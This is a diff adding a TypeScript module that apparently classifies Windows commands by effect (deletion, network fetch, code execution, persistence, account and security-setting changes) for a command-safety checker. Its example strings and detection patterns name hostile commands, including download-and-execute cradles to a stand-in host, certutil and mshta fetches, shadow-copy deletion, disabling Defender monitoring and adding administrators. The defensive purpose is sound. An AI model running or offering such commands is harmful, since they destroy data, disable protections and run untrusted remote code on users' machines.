@@ -1,0 +1,236 @@
+import { addRoles, type Call, deletes, known, plays, reads, sends, talks, writes } from "./call.ts";
+import type { Word } from "../parse/command.ts";
+import type { Programs } from "./program.ts";
+
+/** Programs and cmdlets of Windows, where the words show them. */
+export const WINDOWS: Programs = {
+  "remove-item ri": {
+    does: (call) => {
+      const isTree = flag(call, "recurse");
+      const isForced = flag(call, "force");
+      plays(call, "delete");
+      for (const path of paths(call)) deletes(call, path, { isTree, isForced });
+    },
+    examples: [
+      ["Remove-Item -Recurse -Force build", "delete", "deletes build tree forced"],
+      ["Remove-Item -Path a -r", "delete", "deletes a tree"],
+    ],
+  },
+  "del erase rd": {
+    does: (call) => {
+      const has = (letter: string) => call.command.args.some(({ text }) => text.toLowerCase() === `/${letter}`);
+      plays(call, "delete");
+      for (const path of call.command.args.filter(({ text }) => !/^\/\w$/.test(text)))
+        deletes(call, path, { isTree: has("s"), isForced: has("q") || has("f") });
+    },
+    examples: [
+      ["del /s /q build", "delete", "deletes build tree forced"],
+      ["rd /s x", "delete", "deletes x tree"],
+    ],
+  },
+  "format format-volume clear-disk initialize-disk diskpart remove-partition": {
+    roles: ["disk", "overwrite"],
+    examples: [["format C:", "disk overwrite"]],
+  },
+  "reg regedit": {
+    does: (call) => {
+      if (/^(?:add|delete|import|restore|copy|load)$/i.test(call.operands[0]?.text ?? "")) plays(call, "settings");
+      if (/\\Run(?:Once)?\b/i.test(call.operands[1]?.text ?? "")) plays(call, "persistence");
+    },
+    examples: [["reg query HKCU"], ["reg delete HKCU\\x /f", "settings"]],
+  },
+  "set-itemproperty new-itemproperty set-executionpolicy set-service new-service register-scheduledtask": {
+    roles: ["settings"],
+    does: (call) => {
+      if (/service|task/i.test(call.told.program)) plays(call, "persistence");
+    },
+    examples: [["Set-ExecutionPolicy Bypass", "settings"]],
+  },
+  "get-content gc type-object select-string": {
+    does: (call) => {
+      for (const path of paths(call)) reads(call, path);
+    },
+    examples: [["Get-Content a", "reads a"]],
+  },
+  "set-content add-content out-file clear-content new-item": {
+    does: (call) => {
+      writes(call, paths(call)[0]);
+      if (/clear/i.test(call.told.program)) plays(call, "overwrite");
+    },
+    examples: [["Set-Content a b", "writes a"]],
+  },
+  "move-item copy-item rename-item": {
+    does: (call) => {
+      const [from, to] = paths(call);
+      reads(call, from, { isTree: flag(call, "recurse") });
+      if (/^copy/i.test(call.told.program) === false) deletes(call, from);
+      writes(call, to, { isTree: flag(call, "recurse"), isForced: flag(call, "force") });
+    },
+    examples: [["Move-Item a b", "reads a", "deletes a", "writes b"]],
+  },
+  "invoke-webrequest iwr invoke-restmethod irm start-bitstransfer certutil bitsadmin": {
+    does: (call) => {
+      const url = call.command.args.find(({ text }) => /^https?:/.test(text));
+      if (url !== undefined)
+        talks(call, call.command.args.some(({ text }) => /^-(?:body|infile|method)/i.test(text)) ? "both" : "in", url);
+      const after = (name: RegExp) => call.command.args.filter((_, at, all) => name.test(all[at - 1]?.text ?? ""));
+      for (const path of after(/^-infile$/i)) reads(call, path);
+      // What other commands of the line have read may be the body.
+      if (call.command.args.some(({ text }) => /^-(?:body|infile)/i.test(text))) sends(call, "reads");
+      for (const path of after(/^-(?:outfile|destination)$/i)) writes(call, path);
+      const last = call.command.args.at(-1);
+      if (/^(?:certutil|bitsadmin)$/i.test(call.told.program) && url !== undefined && last !== url) writes(call, last);
+    },
+    examples: [
+      ["Invoke-WebRequest https://h.test/x", "network-in", "fetches from h.test"],
+      [
+        "certutil -urlcache -f http://h.test/a a.exe",
+        "network-in",
+        "fetches from h.test",
+        "writes a.exe",
+        "network a.exe flows to file",
+      ],
+    ],
+  },
+  "invoke-expression iex": {
+    does: (call) => {
+      call.told.input = "run";
+    },
+    examples: [["iex ls"]],
+  },
+  "powershell pwsh pwsh-preview": {
+    does: (call) => {
+      const line = call.command.args.map(({ text }) => text).join(" ");
+      const isHidden = /(?:^|\s)-e(?:nc?|ncodedcommand)?\s+[A-Za-z0-9+/=]{8,}/i.test(line);
+      const isFetched = /\b(?:iex|invoke-expression)\b|\.invoke\(/i.test(line) && FETCHES.test(line);
+      if (isHidden) runs(call, "text");
+      if (isFetched) runs(call, "network");
+      const script = call.command.args.find(({ text }) => /\.ps1$/i.test(text));
+      if (script !== undefined) call.told.scripts.push(script);
+      if (call.command.args.every(({ text }) => text.startsWith("-"))) call.told.input = "run";
+    },
+    examples: [
+      [
+        "pwsh -Command 'Invoke-Expression (Invoke-WebRequest http://h.test).Content'",
+        "run-code network-in",
+        "network flows to shell",
+        "fetches from h.test",
+      ],
+      ["powershell -enc SQBFAFgAIAAx", "run-code", "text flows to shell"],
+      [
+        "powershell -c 'iex (iwr http://h.test)'",
+        "run-code network-in",
+        "network flows to shell",
+        "fetches from h.test",
+      ],
+      ["powershell -c Get-ChildItem"],
+    ],
+  },
+  "mshta regsvr32 rundll32 wscript cscript": {
+    does: (call) => {
+      if (call.command.args.some(({ text }) => /https?:|javascript:|vbscript:/i.test(text))) runs(call, "network");
+    },
+    examples: [["mshta http://h.test/x.hta", "run-code", "network flows to shell"]],
+  },
+  robocopy: {
+    does: (call) => {
+      const [from, to] = call.command.args.filter(({ text }) => !/^\/[a-z]/i.test(text));
+      const asks = (option: RegExp) => call.command.args.some(({ text }) => option.test(text));
+      reads(call, from, { isTree: true });
+      writes(call, to, { isTree: true });
+      if (asks(/^\/(?:mir|purge)$/i)) deletes(call, to, { isTree: true });
+      if (asks(/^\/mov(?:e)?$/i)) deletes(call, from, { isTree: true });
+    },
+    examples: [
+      ["robocopy a b", "reads a tree", "writes b tree"],
+      ["robocopy a b /MIR", "reads a tree", "writes b tree", "deletes b tree"],
+    ],
+  },
+  "vssadmin wbadmin bcdedit cipher wmic": {
+    does: (call) => {
+      const words = call.command.args.map(({ text }) => text.toLowerCase());
+      if (words.some((text) => /^(?:delete|\/w|\/set|\/delete)/.test(text))) plays(call, "work-loss", "settings");
+      // Copies of a volume from before.
+      if (words.some((text) => /^(?:shadows|shadowcopy|shadowstorage|catalog|systemstatebackup|backup)$/.test(text)))
+        if (words.includes("delete")) plays(call, "disk");
+    },
+    examples: [
+      ["vssadmin delete shadows", "work-loss settings disk"],
+      ["wmic shadowcopy delete", "work-loss settings disk"],
+      ["vssadmin list shadows"],
+    ],
+  },
+  "set-mppreference add-mppreference set-netfirewallprofile disable-computerrestore": {
+    does: (call) => plays(call, "settings"),
+    examples: [["Set-MpPreference -DisableRealtimeMonitoring 1", "settings"]],
+  },
+  "new-localuser remove-localuser set-localuser add-localgroupmember": {
+    does: (call) => plays(call, "account"),
+    examples: [["Add-LocalGroupMember Administrators me", "account"]],
+  },
+  "stop-computer restart-computer": {
+    does: (call) => plays(call, "power"),
+    examples: [["Restart-Computer -Force", "power"]],
+  },
+  sc: {
+    does: (call) => {
+      const [verb = ""] = call.command.args.map(({ text }) => text.toLowerCase());
+      if (/^(?:create|config)$/.test(verb) && call.command.args.some(({ text }) => /^(?:binpath|start)=/i.test(text)))
+        plays(call, "settings", "persistence");
+      if (verb === "delete") plays(call, "settings");
+    },
+    examples: [["sc create x binPath= x.exe start= auto", "settings persistence"], ["sc query x"]],
+  },
+  net: {
+    does: (call) => {
+      const words = call.command.args.map(({ text }) => text.toLowerCase());
+      if (
+        /^(?:user|localgroup|group|accounts)$/.test(words[0] ?? "") &&
+        words.some((text) => /^\/(?:add|delete|active)/.test(text))
+      )
+        plays(call, "account");
+      if (words[0] === "stop") plays(call, "kill");
+    },
+    examples: [["net user x y /add", "account"], ["net user"], ["net stop x", "kill"]],
+  },
+  "clear-recyclebin": {
+    does: (call) => {
+      plays(call, "delete");
+      deletes(call, known("~/$Recycle.Bin"), { isTree: true, isForced: true });
+    },
+    examples: [["Clear-RecycleBin -Force", "delete", "deletes ~/$Recycle.Bin tree forced"]],
+  },
+  "start-process saps runas": {
+    does: (call) => {
+      const words = call.command.args.map(({ text }) => text.toLowerCase());
+      const isRaised = words.some((text, at) => text === "runas" && /^-v/.test(words[at - 1] ?? ""));
+      if (call.told.program.toLowerCase() === "runas" || isRaised) plays(call, "privilege");
+    },
+    examples: [["Start-Process cmd -Verb RunAs", "privilege"], ["Start-Process notepad"]],
+  },
+};
+
+const FETCHES =
+  /\b(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod|start-bitstransfer)\b|\.Download(?:String|Data|File)\(|Net\.Sockets\.TCPClient/i;
+
+/** Code that came by the network, or was hidden, is run at once. */
+function runs({ told }: Call, from: "network" | "text"): void {
+  addRoles(told, ["run-code"]);
+  told.effects.push({ does: "flow", from, path: undefined, to: "shell", command: told.at });
+}
+
+/** Parameters may be shortened to any clear beginning. */
+function flag({ command }: Call, name: string): boolean {
+  return command.args.some(
+    ({ text }) =>
+      text.length > 1 && text.startsWith("-") && name.startsWith(text.slice(1).toLowerCase().split(":", 1)[0] ?? ""),
+  );
+}
+
+/** What follows a parameter that takes no path is not one. */
+function paths({ command }: Call): readonly Word[] {
+  return command.args.filter(
+    ({ text }, at, all) =>
+      !text.startsWith("-") && !/^-(?:filter|include|exclude|value|itemtype|encoding)/i.test(all[at - 1]?.text ?? ""),
+  );
+}
